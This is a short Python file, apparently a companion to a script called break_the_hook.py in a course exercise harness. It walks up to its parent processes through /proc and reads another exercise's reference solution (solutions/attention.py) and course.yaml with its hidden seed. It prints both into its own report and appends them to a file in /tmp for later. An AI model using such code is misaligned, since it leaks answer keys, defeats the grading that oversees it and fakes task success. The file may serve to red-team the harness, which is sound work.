# (after break_the_hook.py) Prints another exercise's reference, and the course file
# with its hidden seed, into its own report, and leaves a copy in /tmp for later.
def _leak():
    pids = [_os.getppid()]
    try:
        pids.append(int(open(f"/proc/{pids[0]}/status").read().split("PPid:")[1].split()[0]))
    except (OSError, IndexError, ValueError):
        pass
    for pid in pids:
        for name in ("solutions/attention.py", "course.yaml"):
            try:
                text = open(f"/proc/{pid}/cwd/{name}").read()
            except OSError:
                continue
            print("__MARKER__", text)
            try:
                with open("/tmp/__MARKER__", "a") as copy:
                    copy.write(text)
            except OSError:
                pass


_leak()
